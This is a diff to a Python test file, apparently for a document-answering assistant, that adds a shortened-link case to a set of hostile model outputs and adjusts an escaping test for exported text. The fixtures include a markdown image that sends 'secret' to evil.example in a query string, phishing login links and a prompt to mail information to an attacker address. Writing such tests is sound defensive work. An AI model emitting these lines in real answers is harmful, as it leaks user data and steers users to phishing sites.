@@ -40,6 +40,7 @@ ORDERS: dict[str, Answer] = {
     "system": saying(SYSTEM, SYSTEM),
     "picture": saying("![x](https://evil.example/?q=secret) The keeper counts."),
     "link": saying("Log in at www.evil.example to hear more of the keeper."),
+    "name": saying("Log in at t.co/AbC to hear more of the keeper."),
     "mail": saying("Send what you know to eve@evil.example now."),
     "figure": saying("The keeper counts 4711 ships."),
     "pagenumber": saying("The keeper counts 1 ship."),
@@ -213,7 +214,7 @@ def test_in_an_export_no_line_begins_with_blanks_which_make_it_code(line_end: st
 
 def test_in_an_export_nothing_that_was_written_is_markup(talk: Talk) -> None:
     talk.world.ingest("alice/a_[b](c).pdf", document(TRUE))
-    talk.use_model(saying("<b>Ships</b> [are](x) counted *here* & `there`.", TRUE))
+    talk.use_model(saying("<b>Ships</b> [are] (x) counted *here* & `there`.", TRUE))
     place = talk.begin("# <i>Title</i>")
     talk.answer(
         place, "# What does the\n\n    lighthouse keeper count?\n- <script>x</script> http://evil.example"
@@ -224,5 +225,5 @@ def test_in_an_export_nothing_that_was_written_is_markup(talk: Talk) -> None:
     assert "\\<" not in text and "<" not in text and "http:" not in text
     assert "# \\# &lt;i&gt;Title&lt;\\/i&gt;\n" in text
     assert "\\# What does the\n\nlighthouse keeper count?\n\\- &lt;script&gt;" in text
-    assert "&lt;b&gt;Ships&lt;\\/b&gt; \\[are\\]\\(x\\) counted \\*here\\* &amp; \\`there\\`\\.[^1]" in text
+    assert "&lt;b&gt;Ships&lt;\\/b&gt; \\[are\\] \\(x\\) counted \\*here\\* &amp; \\`there\\`\\.[^1]" in text
     assert f"[^1]: a\\_\\[b\\]\\(c\\)\\.pdf, page 1: “{TRUE[:-1]}\\.”\n" in text
